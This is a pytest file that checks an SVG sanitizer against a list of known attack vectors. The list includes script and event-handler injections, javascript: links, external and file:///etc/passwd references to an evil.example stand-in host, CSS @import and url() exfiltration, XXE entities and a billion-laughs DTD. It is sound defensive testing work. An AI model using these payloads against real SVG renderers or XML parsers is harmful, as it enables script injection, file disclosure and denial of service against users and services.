"""The SVG sanitizer against the usual SVG attack vectors (OWASP, DOMPurify's tests): what
is left can draw, and nothing else: no script, events, external or file: references,
foreignObject, animation, @import or url() to elsewhere, entities never expanded."""
from __future__ import annotations

import base64
import io

import pytest
from lxml import etree

from tests.hostile.harness import CANARY, canary_png
from zennbook.safety.svg import InvalidSvg, UnsafeSvg, sanitize_svg, sanitize_svg_report, svg_for_epub

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
PNG_URI = "data:image/png;base64," + base64.b64encode(canary_png()).decode()
FORBIDDEN = (b"script", b"javascript", b"onload", b"onclick", b"onmouseover", b"foreignObject", b"animate",
             b"<set", b"discard", b"@import", b"file:", b"evil", b"expression",
             b"-moz-binding", b"behavior", b"xml-stylesheet", CANARY.encode(), b"ENTITY", b"iframe")

VECTORS = {
    "script": "<script>alert(1)</script>",
    "cdata script": "<script><![CDATA[alert(1)]]></script>",
    "xlink script": '<script xlink:href="https://evil.example/x.js"/>',
    "onload": '<g onload="alert(1)"><rect width="1" height="1"/></g>',
    "event on root": "",  # the root carries onload (see svg())
    "onmouseover uppercase": '<rect ONMOUSEOVER="alert(1)" width="1" height="1"/>',
    "a javascript": '<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>',
    "a href javascript": '<a href="javascript:alert(1)"><text>x</text></a>',
    "a entity javascript": '<a href="&#106;avascript:alert(1)"><text>x</text></a>',
    "use external": '<use href="https://evil.example/sprite.svg#x"/>',
    "use file": '<use xlink:href="file:///etc/passwd#x"/>',
    "image file": '<image href="file:///outside/canary.png" width="1" height="1"/>',
    "image relative": '<image href="../../outside/canary.png" width="1" height="1"/>',
    "image svg data": '<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"/>',
    "feImage external": '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
    "foreignObject": f'<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/>{CANARY}</div></foreignObject>',
    "animate href": '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
    "set to": '<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',
    "animateTransform": '<animateTransform attributeName="transform" type="rotate" from="0" to="360"/>',
    "animateMotion": '<animateMotion path="M0 0 L1 1" dur="1s"/>',
    "discard": '<discard begin="0s"/>',
    "style import": '<style>@import url("https://evil.example/x.css"); rect { fill: red }</style>',
    "style import bare": "<style>@import 'file:///etc/passwd';</style>",
    "style url": "<style>rect { fill: url(https://evil.example/x.svg#p) }</style>",
    "style url escaped": "<style>rect { background: u\\72l(https://evil.example/x) }</style>",
    "style expression": "<style>rect { width: expression(alert(1)) }</style>",
    "style binding": "<style>rect { -moz-binding: url(https://evil.example/x.xml#x) }</style>",
    "style font-face": "<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>",
    "style in media": "<style>@media screen { rect { fill: url(file:///x#y) } }</style>",
    "style attribute url": '<rect style="fill: url(https://evil.example/p#x); stroke: red" width="1" height="1"/>',
    "style attribute behavior": '<rect style="behavior: url(x.htc)" width="1" height="1"/>',
    "fill url": '<rect fill="url(https://evil.example/x.svg#g)" width="1" height="1"/>',
    "filter url file": '<rect filter="url(file:///x.svg#f)" width="1" height="1"/>',
    "html namespace script": '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
    "xml events": '<rect xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" width="1" height="1"/>',
    "xml base": '<g xml:base="https://evil.example/"><rect width="1" height="1"/></g>',
    "iframe": '<iframe src="https://evil.example"/>',
    "handler": '<handler type="application/ecmascript">alert(1)</handler>',
    "font face uri": '<font-face><font-face-src><font-face-uri xlink:href="https://evil.example/f.svg"/></font-face-src></font-face>',
}


def svg(body: str, root_extra: str = 'onload="alert(1)"', prolog: str = "") -> bytes:
    return f'{prolog}<svg {NS} width="10" height="10" {root_extra}>{body}<rect width="2" height="2" fill="blue"/></svg>'.encode()


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_every_vector_is_removed_and_the_drawing_kept(name):
    out = sanitize_svg(svg(VECTORS[name]))
    for needle in FORBIDDEN:
        assert needle.lower() not in out.lower(), (name, needle, out)
    root = etree.fromstring(out)
    assert root.find("{http://www.w3.org/2000/svg}rect[@fill='blue']") is not None
    out11 = svg_for_epub(svg(VECTORS[name]))
    assert not any(n.lower() in out11.lower() for n in FORBIDDEN if n != b"animate"), name


def test_local_references_are_kept():
    body = ('<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
            '<marker id="m"><path d="M0 0"/></marker></defs>'
            '<rect fill="url(#g)" style="fill: url(&quot;#g&quot;)" marker-end="url(#m)" width="1" height="1"/>'
            '<use href="#m"/><style>#x .y { fill: url(#g); stroke-dasharray: 3 }</style>')
    out, removed = sanitize_svg_report(svg(body, root_extra=""))
    assert removed == []
    assert out.count(b"url(#g)") == 2 and b'href="#m"' in out and b"url(&quot;#g&quot;)" in out


def test_a_raster_data_uri_is_kept_as_a_fresh_image_without_its_metadata():
    out = sanitize_svg(svg(f'<image href="{PNG_URI}" width="8" height="8"/>', root_extra=""))
    assert b"data:image/png;base64," in out and CANARY.encode() not in out
    uri = etree.fromstring(out).find("{http://www.w3.org/2000/svg}image").get("href")
    from PIL import Image
    data = base64.b64decode(uri.split(",", 1)[1])
    assert CANARY.encode() not in data and Image.open(io.BytesIO(data)).size == (8, 8)


@pytest.mark.parametrize("uri", [
    "data:image/png;base64,bm90IGFuIGltYWdl",                          # not an image
    "data:image/jpeg;base64," + base64.b64encode(canary_png()).decode(),  # a PNG called JPEG
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J2FsZXJ0KDEpJy8+",
])
def test_other_data_uris_are_dropped(uri):
    out = sanitize_svg(svg(f'<image href="{uri}" width="8" height="8"/>', root_extra=""))
    assert b"data:" not in out


@pytest.mark.parametrize("prolog", [
    # billion laughs
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    # external entity reading a file
    f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///tmp/{CANARY}.txt">]>',
    '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
    '<!DOCTYPE svg [<!ELEMENT svg ANY>]>',
])
def test_a_dtd_with_declarations_is_refused(prolog):
    with pytest.raises((UnsafeSvg, InvalidSvg)):
        sanitize_svg(svg("<text>&c;</text>" if "ENTITY c" in prolog else "<text>x</text>", prolog=prolog))


def test_an_entity_file_reference_never_reaches_the_output(tmp_path):
    canary = tmp_path / "canary.txt"
    canary.write_text(CANARY)
    data = svg("<text>&x;</text>", prolog=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{canary}">]>')
    with pytest.raises(UnsafeSvg):
        sanitize_svg(data)


def test_the_usual_public_doctype_is_fine_and_dropped():
    prolog = ('<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>'
              '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">')
    out = sanitize_svg(svg("<!-- a comment --><text>x</text>", root_extra="", prolog=prolog))
    assert b"DOCTYPE" not in out and b"xml-stylesheet" not in out and b"comment" not in out


@pytest.mark.parametrize("data, error", [
    (b"not xml at all", InvalidSvg), (b"<svg", InvalidSvg), (b"", InvalidSvg),
    (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', InvalidSvg), (b"<svg/>", InvalidSvg),
])
def test_what_is_not_svg_is_an_error(data, error):
    with pytest.raises(error):
        sanitize_svg(data)


def test_deep_nesting_is_refused_not_a_crash():
    deep = "<g>" * 100_000 + "</g>" * 100_000
    with pytest.raises(InvalidSvg):
        sanitize_svg(svg(deep))
